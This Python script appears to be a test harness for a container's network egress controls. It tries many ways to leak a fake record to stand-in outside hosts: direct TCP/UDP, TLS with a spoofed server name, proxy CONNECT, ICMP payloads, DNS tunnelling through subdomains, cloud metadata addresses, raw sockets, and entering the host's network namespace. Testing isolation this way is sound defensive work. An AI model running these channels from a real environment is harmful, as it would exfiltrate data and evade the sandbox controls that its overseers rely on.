"""What a workload that wants out would try. Prints, for each way, what happened to it.

A way is a function; its name and first line say what it is. Nothing here knows whether it worked:
the world's listener does.
"""

import ctypes
import json
import os
import socket
import struct
import sys

OUT4, OUT6, UPSTREAM = "203.0.113.9", "2001:db8::9", "10.99.0.1"
LOOT = b"patient 536-22-8941 leaves by "
METADATA = ["169.254.169.254", "100.100.100.200", "168.63.129.16", "fd00:ec2::254"]


def stream(to, port, device=None, first=b""):
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        if device:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
        sock.connect((to, port))
        sock.sendall(first or LOOT)
        return f"connected; answered {sock.recv(200)!r}"


def datagram(to, port, data=LOOT, device=None, options=()):
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        if device:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
        for option in options:
            sock.setsockopt(*option)
        sock.sendto(data, (to, port))
        return f"sent; answered {sock.recvfrom(200)[0]!r}"


def question(name):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def tcp():
    """TCP to an address that no rule lists, port 443"""
    return stream(OUT4, 443)


def other_port():
    """TCP to other ports: 22, 25, 4444, 5432"""
    return [attempt(lambda port=port: stream(OUT4, port)) for port in (22, 25, 4444, 5432)]


def http():
    """plain HTTP to a host that no rule lists"""
    return stream(OUT4, 80, first=b"GET /loot HTTP/1.1\r\nHost: closed.example\r\n\r\n")


def tls():
    """TLS with an allowed name to an address that is not its own"""
    import ssl

    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((OUT4, 443), timeout=3) as sock:
        with context.wrap_socket(sock, server_hostname="registry.ml.internal") as tls_sock:
            tls_sock.sendall(b"GET / HTTP/1.1\r\nHost: registry.ml.internal\r\n\r\n")
            return f"connected; answered {tls_sock.recv(200)!r}"


def proxy():
    """the forward proxy, by CONNECT and by URL"""
    connect = f"CONNECT {OUT4}:443 HTTP/1.1\r\nHost: {OUT4}:443\r\n\r\n".encode()
    get = b"GET http://closed.example/loot HTTP/1.1\r\nHost: closed.example\r\n\r\n"
    return [attempt(lambda first=first: stream("127.0.0.1", 3128, first=first)) for first in (connect, get)]


def udp():
    """UDP to an address outside"""
    return datagram(OUT4, 4444)


def udp_lite():
    """UDP-Lite and SCTP"""

    def other(kind, protocol):
        with socket.socket(socket.AF_INET, kind, protocol) as sock:
            sock.settimeout(1)
            sock.connect((OUT4, 4444))
            return f"sent {sock.send(LOOT)}"

    return [attempt(lambda: other(socket.SOCK_DGRAM, 136)), attempt(lambda: other(socket.SOCK_STREAM, 132))]


def quic():
    """QUIC: UDP 443, a long header"""
    return datagram(OUT4, 443, b"\xc0\x1a\x2a\x3a\x4a\x04" + LOOT.ljust(1194, b"\0"))


def ipv6():
    """IPv6: TCP and UDP"""
    return [attempt(lambda: stream(OUT6, 443)), attempt(lambda: datagram(OUT6, 4444))]


def icmp():
    """ICMP and ICMPv6 echo, with data"""

    def ping(family, protocol, kind, to):
        with socket.socket(family, socket.SOCK_DGRAM, protocol) as sock:
            sock.settimeout(1)
            sock.sendto(bytes([kind, 0, 0, 0, 0, 1, 0, 1]) + LOOT, (to, 0))
            return f"sent; answered {sock.recv(200)!r}"

    four = lambda: ping(socket.AF_INET, socket.IPPROTO_ICMP, 8, OUT4)
    six = lambda: ping(socket.AF_INET6, socket.IPPROTO_ICMPV6, 128, OUT6)
    return [attempt(four), attempt(six)]


def dns_elsewhere():
    """DNS to a server outside: UDP, TCP, IPv6"""
    asked = question("536-22-8941.loot.example")
    framed = struct.pack("!H", len(asked)) + asked
    return [
        attempt(lambda: datagram(OUT4, 53, asked)),
        attempt(lambda: stream(OUT4, 53, first=framed)),
        attempt(lambda: datagram(OUT6, 53, asked)),
    ]


def dns_names():
    """DNS by the pod's own resolver: names that carry data, also under an allowed wildcard"""
    names = [
        "536-22-8941.registry.ml.internal",
        "onzw4oraguztmljsgiwtqojuge.registry.ml.internal",
        "loot.example",
    ]
    return [attempt(lambda name=name: repr(socket.getaddrinfo(name, 443))) for name in names]


def dns_loopback():
    """DNS by another resolver's address on the loopback"""
    return datagram("127.0.0.53", 53, question("536-22-8941.loot.example"))


def metadata():
    """cloud metadata addresses, TCP and UDP"""
    tcp_tries = [attempt(lambda to=to: stream(to, 80)) for to in METADATA]
    return tcp_tries + [attempt(lambda to=to: datagram(to, 47619)) for to in METADATA]


def many():
    """multicast and broadcast"""
    broadcast = [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)]
    return [
        attempt(lambda: datagram("224.0.0.251", 5353)),
        attempt(lambda: datagram("ff02::fb%eth0", 5353)),
        attempt(lambda: datagram("255.255.255.255", 4444, options=broadcast)),
        attempt(lambda: datagram("10.99.0.255", 4444, options=broadcast)),
    ]


def neighbour():
    """the link: the next machine, and addresses of nobody, which would be asked for by name"""
    tries = [attempt(lambda: stream(UPSTREAM, 4444)), attempt(lambda: datagram(UPSTREAM, 4444))]
    for nobody in ("10.99.0.77", "fd99::5368:6941"):
        tries.append(attempt(lambda: datagram(nobody, 4444)))
        tries.append(attempt(lambda: stream(nobody, 4444)))
    return tries


def device():
    """sockets bound to the outward device, so that a redirection would lead outside"""
    eth0 = b"eth0\0"
    return [
        attempt(lambda: stream(OUT4, 443, device=eth0)),
        attempt(lambda: datagram(OUT4, 53, question("loot.example"), device=eth0)),
        attempt(lambda: datagram("127.0.0.1", 15053, device=eth0)),
        attempt(lambda: datagram("127.0.0.1", 4444, device=eth0)),
    ]


def raw():
    """raw and packet sockets"""

    def packet():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
            sock.bind(("eth0", 0))
            return f"sent {sock.send(bytes(12) + b'%s' % LOOT)}"

    def internet(protocol):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as sock:
            return f"sent {sock.sendto(LOOT, (OUT4, 0))}"

    return [attempt(packet), attempt(lambda: internet(1)), attempt(lambda: internet(253))]


def fast_open():
    """data in the first packet: TCP Fast Open"""
    with socket.socket() as sock:
        sock.settimeout(2)
        return f"sent {sock.sendto(LOOT, socket.MSG_FASTOPEN, (OUT4, 443))}"


def namespace():
    """a namespace of its own, and the first process's"""
    libc = ctypes.CDLL(None, use_errno=True)

    def unshare():
        if libc.unshare(0x10000000 | 0x40000000):
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "a new one; " + attempt(lambda: datagram(OUT4, 4444))

    def enter():
        with open("/proc/1/ns/net") as there:
            if libc.setns(there.fileno(), 0x40000000):
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            return "entered"

    return [attempt(enter), attempt(unshare)]


def attempt(way):
    try:
        return way()
    except OSError as error:
        return f"{type(error).__name__}: {error}"


WAYS = [
    tcp, other_port, http, tls, proxy, udp, udp_lite, quic, ipv6, icmp, dns_elsewhere, dns_names,
    dns_loopback, metadata, many, neighbour, device, raw, fast_open, namespace,
]

for chosen in WAYS:
    if len(sys.argv) > 1 and chosen.__name__ not in sys.argv[1:]:
        continue
    happened = attempt(chosen)
    for one in happened if isinstance(happened, list) else [happened]:
        print(json.dumps({"way": chosen.__name__, "what": chosen.__doc__, "happened": one}), flush=True)
